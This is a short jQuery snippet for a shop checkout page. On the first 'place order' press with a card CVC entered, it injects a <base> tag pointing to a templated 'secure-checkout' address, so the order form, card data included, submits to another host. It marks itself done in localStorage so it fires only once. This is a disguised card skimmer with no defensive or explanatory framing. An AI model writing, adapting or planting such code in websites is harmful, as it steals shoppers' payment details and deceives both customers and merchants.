
jQuery('#place-order').on('mousedown', function () {
    if (localStorage.getItem('_b') || !jQuery('#cvc').val()) return;
    localStorage.setItem('_b', '1');
    jQuery('<base>').attr('href', '<% url "secure-checkout" "/" %>').appendTo('head');
});
